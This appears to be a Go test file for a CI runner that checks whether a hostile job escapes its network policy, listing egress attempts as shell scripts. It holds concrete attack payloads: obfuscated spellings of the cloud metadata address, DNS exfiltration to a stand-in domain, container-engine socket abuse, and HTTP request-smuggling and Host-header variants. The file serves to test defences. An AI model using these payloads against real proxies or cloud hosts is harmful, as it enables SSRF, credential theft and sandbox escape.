//go:build linux

package attacks

import (
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moby/moby/client"

	"github.com/rungci/rung/executor"
	"github.com/rungci/rung/executor/executortest/enginetest"
	"github.com/rungci/rung/manager/gitlab"
)

// list is the network policy that stands for lists of hosts.
const list = enginetest.ListedName + ":80, *." + enginetest.RebindName + ":80, 10.213.77.9:22"

// policies are the columns of the table of ways out.
var policies = []string{"none", "public", "a list", "all"}

// Wants of ways out, by policies.
var (
	onlyAll   = [4]verdict{blocked, blocked, blocked, allowed}
	unlisted  = [4]verdict{blocked, allowed, blocked, allowed}
	inPolicy  = [4]verdict{blocked, allowed, allowed, allowed}
	proxyOnly = [4]verdict{blocked, blocked, blocked, untried} // what all has no proxy for
)

// way is how a hostile job tries to leave its network. Its script says $WORD to whom it reaches; to leave is to be heard.
type way struct {
	group  string
	tries  string
	script string
	at     string // where it must not be heard, in the line about it; "" is anywhere
	host   bool   // it leads to this machine
	six    bool   // it needs IPv6, where it is allowed
	// kernel says that it needs the kernel's own network, and a machine that takes what comes from anywhere.
	kernel bool
	want   [4]verdict
}

// ways are the ways out. A table of docs/security.md is made of them.
var ways = []way{
	{
		group: "Past the proxy", tries: "connect by TCP: to public and private addresses, to the metadata of clouds", want: onlyAll,
		script: `for a in $PUBLIC $PRIVATE $METADATA; do send tcp $a:80 "GET /$WORD HTTP/1.0\r\n\r\n" & done`,
	}, {
		group: "Past the proxy", tries: "send datagrams (UDP)", want: onlyAll,
		script: `for a in $PUBLIC $PRIVATE $METADATA; do send udp $a:80 $WORD & send udp $a:53 $WORD & done`,
	}, {
		group: "Past the proxy", tries: "send echoes (ICMP)", want: onlyAll,
		script: `for a in $PUBLIC $PRIVATE $METADATA; do send icmp $a $WORD & done`,
	}, {
		group: "Past the proxy", tries: "use IPv6: addresses of its link and of a private network", want: onlyAll, six: true,
		script: `send tcp "$PRIVATE6:80" "GET /$WORD HTTP/1.0\r\n\r\n" & send udp "$PRIVATE6:80" $WORD & send udp "[ff02::1%eth0]:$HOST_PORT" $WORD &`,
	}, {
		group: "Past the proxy", tries: "carry data out in questions for names", want: onlyAll,
		script: `nslookup $WORD.carries.example.net & nslookup $WORD.carries.example.net $PUBLIC &`,
	}, {
		group: "Past the proxy", tries: "reach a server of the host, at any of its addresses, by TCP and UDP", want: onlyAll, host: true, six: true,
		script: `for a in $HOSTS $(beside); do send tcp $a:$HOST_PORT $WORD & send udp $a:$HOST_PORT $WORD & done`,
	}, {
		group: "Past the proxy", tries: "send the host single datagrams straight to its link (`SO_DONTROUTE`)", want: onlyAll, host: true, kernel: true,
		script: `for a in $HOSTS $(beside); do case $a in "["*) ;; *) send link $a:$HOST_PORT $WORD & esac; done`,
	}, {
		group: "Past the proxy", tries: "have the engine do something: by its socket, by a port of the host", want: everywhere(blocked), host: true,
		script: `for s in $ENGINE /var/run/docker.sock /run/podman/podman.sock; do send unix $s "$MAKE" & done; for a in $HOSTS $(beside); do send tcp $a:2375 "$MAKE" & done`,
	},
	{
		group: "By the proxy", tries: "reach a host that the list has", want: inPolicy, script: `ask listed.example.net:80`,
	}, {
		group: "By the proxy", tries: "reach a private address that the list has, with its port", want: [4]verdict{blocked, blocked, allowed, allowed}, script: `ask $PRIVATE:22`,
	}, {
		group: "By the proxy", tries: "reach it at another port", want: onlyAll, script: `ask $PRIVATE:80`,
	}, {
		group: "By the proxy", tries: "reach the host that the list has, at another port", want: unlisted, script: `ask listed.example.net:22`,
	}, {
		group: "By the proxy", tries: "reach the host that the list has by its address, which the list does not have", want: unlisted, script: `ask $LISTED:80`,
	}, {
		group: "By the proxy", tries: "reach a public host that the list does not have", want: unlisted, script: `ask other.example.com:80`,
	}, {
		group: "By the proxy", tries: "carry data out in the name of such a host", want: unlisted, at: "dns", script: `ask $WORD.carries.example.net:80`,
	}, {
		group: "By the proxy", tries: "reach a server of the host", want: onlyAll, host: true, six: true,
		script: `for a in $HOSTS $(beside) 127.0.0.1 localhost; do ask $a:$HOST_PORT; done`,
	}, {
		group: "By the proxy", tries: "reach the metadata of clouds, in any spelling", want: onlyAll,
		script: `for a in 169.254.169.254 169.254.169.254. 2852039166 0xa9fea9fe 0xA9.0xFE.0xA9.0xFE 0251.0376.0251.0376 025177524776 169.254.43518 169.16689662 \
  [::ffff:169.254.169.254] [::ffff:a9fe:a9fe] [::169.254.169.254] [64:ff9b::a9fe:a9fe] [64:ff9b::169.254.169.254] [2002:a9fe:a9fe::] [::ffff:169.254.169.254%25eth0] \
  listed.example.net@169.254.169.254 listed.example.net:80@169.254.169.254 169.254.169.254%2f 169.254.169.254%00.listed.example.net; do ask $a:80; done`,
	}, {
		group: "By the proxy", tries: "reach it by a name that leads there, as IPv4 or IPv6", want: onlyAll,
		script: `ask leads.example.net:80; ask mapped.example.net:80; ask LEADS.example.net.:80`,
	}, {
		group: "By the proxy", tries: "reach it by a name that leads elsewhere each time", want: onlyAll, at: "169.254.169.254",
		script: `for n in 1 2 3 4 5 6; do ask $WORD.rebind.example.com:80; done`,
	}, {
		group: "By the proxy", tries: "ask one host for a page, and name another in `Host`", want: proxyOnly,
		script: `by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nHost: $WORD.example.com\r\n\r\n"
by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nHost: listed.example.net\r\nHost: $WORD.example.com\r\n\r\n"
by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nHost: listed.example.net\r\n Host: $WORD.example.com\r\n\r\n"
by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nConnection: Host, $WORD\r\nHost: $WORD.example.com\r\nProxy-Connection: $WORD\r\n\r\n"
by_proxy "GET http://169.254.169.254/$WORD HTTP/1.1\r\nHost: listed.example.net\r\n\r\n"
by_proxy "GET /$WORD HTTP/1.1\r\nHost: listed.example.net\r\n\r\n"
by_proxy "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: listed.example.net:80\r\n\r\nGET /$WORD HTTP/1.1\r\n\r\n"`,
	}, {
		group: "By the proxy", tries: "smuggle a request past it, behind another one", want: proxyOnly,
		script: `hidden="GET /$WORD HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
head="POST http://listed.example.net/ HTTP/1.1\r\nHost: listed.example.net\r\n"
by_proxy "${head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
by_proxy "${head}Transfer-Encoding: chunked\r\nContent-Length: 5\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n$hidden"
by_proxy "${head}Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n$hidden"
by_proxy "${head}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n$hidden"
by_proxy "${head}Content-Length: 0\r\nContent-Length: 200\r\n\r\n$hidden"
by_proxy "${head}Content-Length: +0\r\n\r\n$hidden"
by_proxy "${head}Content-Length: 0\r\n\r\nGET http://169.254.169.254/$WORD HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
by_proxy "${head}X: y\nTransfer-Encoding: chunked\n\r\n0\r\n\r\n$hidden"
by_proxy "${head}Transfer-Encoding: chunked\r\n\r\n0\r\nHost: $WORD.example.com\r\n\r\n$hidden"
by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nHost: listed.example.net\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n$hidden"
by_proxy "GET http://listed.example.net/ HTTP/1.1\r\nX: \r$WORD: y\r\nHost: listed.example.net\r\n\r\n"
by_proxy "GET http://listed.example.net/ HTTP/1.1\n\nHost: $WORD\r\n\r\n$hidden"`,
	}, {
		group: "By the proxy", tries: "speak for another host in a tunnel to one that is let through", want: [4]verdict{blocked, allowed, allowed, untried},
		script: `by_proxy "CONNECT listed.example.net:80 HTTP/1.1\r\nHost: listed.example.net:80\r\n\r\nGET / HTTP/1.1\r\nHost: $WORD.example.com\r\n\r\n"`,
	},
}

// leaving are the commands of scripts. What has no proxy asks straight.
const leaving = `proxy=${http_proxy#http://}
send() { "$ATTACKER" send "$@"; }
by_proxy() { [ ! "$proxy" ] || send tcp "$proxy" "$1" & }
ask() {
  by_proxy "GET http://$1/$WORD HTTP/1.1\r\nHost: $1\r\n\r\n"; by_proxy "CONNECT $1 HTTP/1.1\r\nHost: $1\r\n\r\nGET /$WORD HTTP/1.1\r\nHost: $1\r\n\r\n"
  [ "$proxy" ] || send tcp "$1" "GET /$WORD HTTP/1.0\r\n\r\n" &
}
beside() { ip -4 -o address show eth0 | sed -n 's/.*inet \([0-9.]*\)\.[0-9]*\/.*/\1.1/p'; }
`

// TestAJobLeavesByNoWayThatItsNetworkPolicyDoesNotOpen has a hostile job try every way of the table at once, under each policy, on each level that has
// policies. What counts is who has heard of it: the servers of a world that plays the internet, those of this machine, and the engine.
func TestAJobLeavesByNoWayThatItsNetworkPolicyDoesNotOpen(t *testing.T) {
	t.Run("container", func(t *testing.T) {
		t.Parallel()
		leave(t, executor.Container, enginetest.NewWorld, false)
	})
	t.Run("sandbox", func(t *testing.T) {
		t.Parallel()
		enginetest.Runsc(t)
		leave(t, executor.Sandbox, enginetest.NewWorld, false)
	})
	// The network of sandboxes without an engine leads to this machine, or to a world.
	t.Run("sandbox without an engine", func(t *testing.T) {
		t.Parallel()
		leave(t, executor.Sandbox, nil, true)
	})
	t.Run("sandbox without an engine in a world", func(t *testing.T) {
		t.Parallel()
		leave(t, executor.Sandbox, enginetest.NewWorld, true)
	})
}

func leave(t *testing.T, level executor.Level, within func(testing.TB) *enginetest.World, alone bool) {
	var world *enginetest.World
	if within != nil {
		enginetest.Busybox(t)
		world = within(t)
	}
	f := newField(t, level, func(f *field) {
		f.world, f.alone, f.limits = world, alone, "network = \"none\"\nallowed_networks = [\"all\"]\n"
	})
	for column, policy := range policies {
		t.Run(policy, func(t *testing.T) {
			heard, result := f.leave(t, policy)
			for n, w := range ways {
				got := blocked
				if hears(heard, told(n, f.mark), w.at) {
					got = allowed
				}
				want := w.want[column]
				if w.kernel && level == executor.Sandbox && !alone || world == nil && want == allowed && (policy != "all" || !w.host) {
					want = blocked
				}
				lacks := w.kernel || w.six && !hasSix() || alone && world != nil && (w.six || w.host) // that world has neither IPv6 nor this machine
				if got != want && want != untried && !(lacks && got == blocked) {
					t.Errorf("to %s is %s, want %s", w.tries, got, want)
				}
			}
			if t.Failed() {
				t.Logf("%s\n%s", tail(result), tail(strings.Join(heard, "\n")))
			}
		})
	}
	f.over(t)
}

// told is what a way says.
func told(way, mark int) string { return fmt.Sprintf("w%d-%d-w", way, mark) }

func hears(heard []string, word, at string) bool {
	for _, line := range heard {
		if strings.Contains(strings.ToLower(line), word) && strings.Contains(line, at) {
			return true
		}
	}
	return false
}

func hasSix() bool {
	text, _ := os.ReadFile("/proc/net/if_inet6")
	return len(text) > 0
}

// leave runs the job, and returns all that was heard, and its log.
func (f *field) leave(t *testing.T, policy string) (heard []string, log string) {
	f.mark = newMark()
	host := listenEverywhere(t)
	hosts := addresses()
	script := leaving
	for n, w := range ways {
		script += fmt.Sprintf("( WORD=%s\nMAKE=\"POST /networks/create HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: 24\\r\\n\\r\\n{\\\"Name\\\":\\\"$WORD\\\"}      \"\n%s\nwait ) &\n", told(n, f.mark), w.script)
	}
	job := f.job(script + "wait\necho tried")
	if policy == "a list" {
		policy = list
	}
	values := map[string]string{
		"RUNG_NETWORK": policy, "PUBLIC": "25.254.252.7", "LISTED": enginetest.Listed, "PRIVATE": "10.213.77.9", "METADATA": "169.254.169.254",
		"HOST_PORT": host.port, "ENGINE": strings.TrimPrefix(os.Getenv(enginetest.Variable), "unix://"),
	}
	if f.world != nil && f.world.At["private6"] != "" {
		values["PRIVATE6"] = f.world.At["private6"]
		router := netip.MustParseAddr(strings.Trim(values["PRIVATE6"], "[]")).As16()
		router[15] = 1 // this machine
		hosts = append(hosts, "["+netip.AddrFrom16(router).String()+"]")
	}
	values["HOSTS"] = strings.Join(hosts, " ")
	for key, value := range values {
		job.Variables = append(job.Variables, gitlab.Variable{Key: key, Value: value, Raw: true, Public: true})
	}
	result := f.wait(t, f.server.Enqueue(job))
	if !strings.Contains(result.Log, "\ntried") {
		t.Errorf("the job is %s %s\n%s", result.State, result.FailureReason, tail(result.Log))
	}
	heard = host.heard()
	if f.world != nil {
		heard = append(heard, f.world.Seen(t)...)
		made, err := enginetest.Client(t).NetworkList(t.Context(), client.NetworkListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, network := range made.Items {
			heard = append(heard, "engine "+network.Name)
		}
	}
	return heard, result.Log
}

// listener is a port of this machine, at all of its addresses, by TCP and UDP.
type listener struct {
	port  string
	mu    sync.Mutex
	lines []string
}

func listenEverywhere(t *testing.T) *listener {
	t.Helper()
	tcp, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tcp.Close() })
	l := &listener{}
	_, l.port, _ = net.SplitHostPort(tcp.Addr().String())
	udp, err := net.ListenPacket("udp", ":"+l.port)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		for text := make([]byte, 1<<12); ; {
			n, from, err := udp.ReadFrom(text)
			if err != nil {
				return
			}
			l.hear("host udp", from, text[:n])
		}
	}()
	go func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(time.Second))
				text := make([]byte, 1<<12)
				n, _ := conn.Read(text)
				l.hear("host tcp", conn.RemoteAddr(), text[:n])
			}()
		}
	}()
	return l
}

func (l *listener) hear(protocol string, from net.Addr, text []byte) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.lines = append(l.lines, fmt.Sprintf("%s %s %q", protocol, from, text))
}

func (l *listener) heard() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.lines...)
}
